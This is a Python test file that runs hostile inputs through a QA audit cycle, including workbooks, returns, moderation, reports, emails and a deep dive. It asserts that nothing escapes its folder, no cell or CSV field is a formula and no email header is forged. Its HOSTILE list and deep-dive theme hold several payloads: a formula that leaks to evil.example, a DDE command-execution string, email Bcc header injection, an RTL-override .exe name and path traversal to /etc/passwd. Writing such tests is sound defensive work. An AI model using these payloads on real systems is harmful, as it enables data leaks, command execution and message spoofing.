"""Hostile values through a whole cycle, on SQLite and PostgreSQL: references with path separators, team names
and deep-dive themes with line breaks, formulas, NUL, right-to-left overrides and 100,000 characters in the
free text of returns and moderation forms, carried through the auditors' emails, returns, moderation, the
reports and a deep dive. Nothing escapes its folder, no workbook cell or CSV field is a formula, every message
is delivered whole, and the QA team is told of the row refused. (A NUL cannot be written in a workbook: it comes
in CSV exports, and ``tests/returns/test_filing.py`` shows it taken out before anything is stored.)"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pydantic import SecretStr
from sqlalchemy import select, update

from checks.returns import check_return_file
from qaloop.allocation.notices import notify_cycle
from qaloop.allocation.record import allocate_cycle
from qaloop.core.outputs import FORMULA_STARTS
from qaloop.core.settings import Settings
from qaloop.messaging.outbox import enqueue, send_queued
from qaloop.moderation import record as moderation_record
from qaloop.programmes.deep_dive import DeepDiveRequest, draw_deep_dive, started_message
from qaloop.reporting.cycle_close import build_reports, distribute
from qaloop.returns.filing import ingest_files
from qaloop.returns.follow_up import follow_up
from qaloop.returns.workbooks import auditors_grade, complete_audit_workbook, complete_moderation_workbook
from qaloop.store import models
from qaloop.store.engine import engine_from
from tests.conftest import CYCLE, GRADES, SmtpSink, Stages, database_of

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","Click to see the case")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1,2)",
    "-2+3",
    "first line\r\nBcc: everyone@evil.example\r\nSubject: forged",
    "tab\tand a lone\rcarriage return",
    "gnp.\u202eexe",
    "../../../../etc/passwd",
    "x" * 100_000,
]
# References and a team name made only of the characters the checks allow, which still hold a path's "../".
ESCAPING_REFS = ["CR/../../../escape-1", "CR-../../escape-2", "CR.../../escape-3"]
ESCAPING_TEAM = "North/../../escape team"
RETURNED_ON = date(2027, 1, 8)
MODERATED_ON = date(2027, 1, 27)


@pytest.fixture
def hostile(stages: Stages, store_url: str, tmp_path: Path) -> Iterator[Settings]:
    """Cycle 2026-09 allocated, some of its cases' references and a team's name changed to hostile ones."""
    for settings in stages.copy("allocated", database_of(store_url), tmp_path):
        engine = engine_from(settings)
        with engine.begin() as connection:
            cases = connection.execute(
                select(models.CaseRecord.id, models.CaseRecord.team_id)
                .join(models.Allocation, models.Allocation.case_id == models.CaseRecord.id)
                .where(models.Allocation.status == "allocated")
                .order_by(models.CaseRecord.id)
                .limit(len(ESCAPING_REFS))
            ).all()
            for (case_id, _), ref in zip(cases, ESCAPING_REFS, strict=True):
                connection.execute(
                    update(models.CaseRecord).where(models.CaseRecord.id == case_id).values(case_ref=ref)
                )
            connection.execute(update(models.Team).where(models.Team.id == cases[0].team_id).values(name=ESCAPING_TEAM))
        fast = settings.email.model_copy(update={"messages_per_minute": 60_000})
        workshop = settings.reports.model_copy(
            update={
                "pseudonym_key": SecretStr("hostile-test-key-0123456789-abcdefghij"),
                "workshop_free_text": ["strengths", "learning_points", "to_reach_higher_grade"],
            }
        )
        yield settings.model_copy(update={"email": fast, "reports": workshop})


def _files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()}


def test_hostile_values_go_through_a_whole_cycle_safely(
    hostile: Settings, smtp_server: SmtpSink, tmp_path: Path
) -> None:
    settings = hostile.model_copy(update={"email": hostile.email.model_copy(update={"smtp_port": smtp_server.port})})
    engine = engine_from(settings)
    before = _files(tmp_path)

    # The auditors' emails and workbooks.
    notify_cycle(engine, settings, CYCLE)
    workbooks = settings.output_dir / "cycles" / CYCLE / "workbooks"
    # Fifteen of them come back (a quarter of the cycle: enough for every hostile value and for moderation),
    # those of the cases whose references hold "../" among them.
    sent = sorted(workbooks.glob("* audit tool.xlsx"), key=lambda path: ("escape" not in path.name, path.name))[:15]

    # Returns whose free text is hostile, and an export whose one row has a 100,000-character reference.
    returned = [
        complete_audit_workbook(
            workbook,
            settings.returns.inbox / f"return {number}.xlsx",
            grade=GRADES[number % 4],
            completed_on=RETURNED_ON,
            answer="No" if number % 3 == 0 else "Yes",
            escalation=HOSTILE[number % len(HOSTILE)] if number % 5 == 0 else None,
            strengths=HOSTILE[number % len(HOSTILE)],
            learning_points=HOSTILE[(number + 1) % len(HOSTILE)],
            to_reach_higher_grade=HOSTILE[(number + 2) % len(HOSTILE)],
        )
        for number, workbook in enumerate(sent)
    ]
    export = settings.returns.inbox / "export.csv"
    export.write_text(
        f"case_ref,cycle_ref,auditor_id,grade,completed_on\n{'CR' + '9' * 100_000},{CYCLE},E1,Good,08/01/2027\n"
    )
    outcomes = ingest_files(engine, settings, [*returned, export], RETURNED_ON, check_return_file, follow_up)
    assert [o.status for o in outcomes[:-1]] == ["processed"] * len(returned)
    assert outcomes[-1].status == "quarantined" and len(outcomes[-1].problem or "") < 2_000

    # Moderation forms returned with hostile notes; agreement; the cycle's reports and their distribution.
    moderation_record.draw_and_allocate(engine, settings, CYCLE)
    moderation_record.moderation_messages(engine, settings, CYCLE)
    forms = sorted((settings.output_dir / "cycles" / CYCLE / "moderation").glob("* moderation.xlsx"))
    moderated = [
        complete_moderation_workbook(
            form,
            settings.returns.inbox / f"moderation {number}.xlsx",
            grade=auditors_grade(form),
            completed_on=MODERATED_ON,
            notes=HOSTILE[number % len(HOSTILE)],
        )
        for number, form in enumerate(forms)
    ]
    assert {
        o.status for o in ingest_files(engine, settings, moderated, MODERATED_ON, check_return_file, follow_up)
    } == {"processed"}
    moderation_record.record_agreement(engine, settings, CYCLE)
    distribute(engine, settings, build_reports(engine, settings, CYCLE, date(2027, 2, 4)))

    # A deep dive whose theme and reason are hostile.
    request = DeepDiveRequest(
        theme="=cmd|' /C calc'!A0\r\nBcc: everyone@evil.example ../../escape", reason=HOSTILE[5], sample_size=3
    )
    drawn = draw_deep_dive(engine, settings, request, date(2027, 2, 8))
    allocate_cycle(engine, settings, drawn.cycle_ref)
    notify_cycle(engine, settings, drawn.cycle_ref)
    enqueue(engine, [started_message(settings, request, drawn)])

    summary = send_queued(engine, settings.email)
    with engine.connect() as connection:
        statuses = connection.execute(select(models.EmailOutbox.status, models.EmailOutbox.kind)).all()
    assert {status for status, _ in statuses} == {"sent"}, "every message delivered, none failed or unbuilt"
    assert summary.sent_by_run == len(statuses) == len(smtp_server.messages)
    for message in smtp_server.messages:
        assert message.get("Bcc") is None and len(message.get_all("Subject")) == 1
        assert "\n" not in str(message["Subject"]) and len(str(message["Subject"])) <= 250
    told = [m for m in smtp_server.messages if str(m["Subject"]).startswith("Returned file export.csv")]
    said = told[0].get_body(("plain",)).get_content()
    assert len(told) == 1 and "longer than 64 characters" in said, said

    # Every file written is inside the output folder or the drop folder's home, none beside it through "../".
    written = _files(tmp_path) - before
    homes = (settings.output_dir.resolve(), settings.returns.folder.resolve())
    assert all(any(home in path.resolve().parents for home in homes) for path in written)
    escaping = sorted(path for path in written if "escape" in path.name)
    assert escaping and all(
        path.parent.name in ("workbooks", "moderation")
        and path.parent.parent.parent == settings.output_dir / "cycles"
        or settings.returns.folder in path.parents
        for path in escaping
    ), escaping
    assert not [path for path in written if "escape" in str(path.relative_to(tmp_path).parent)]

    # No workbook cell and no CSV field is a formula (the workbooks sent, the data packs, the workshop dataset,
    # the quarantine's rejected rows).
    assert {path.suffix for path in written} >= {".xlsx", ".csv", ".html"}
    assert [path for path in written if path.name.startswith("workshop-dataset")]
    for path in written:
        if path.suffix == ".xlsx":
            book = load_workbook(path, read_only=True)
            formulas = [
                cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
            ]
            book.close()
            assert not formulas, (path.name, formulas[:5])
        elif path.suffix == ".csv":
            with path.open(newline="") as handle:
                fields = [field for row in csv.reader(handle) for field in row]
            assert not [field for field in fields if field.startswith(FORMULA_STARTS)], path.name
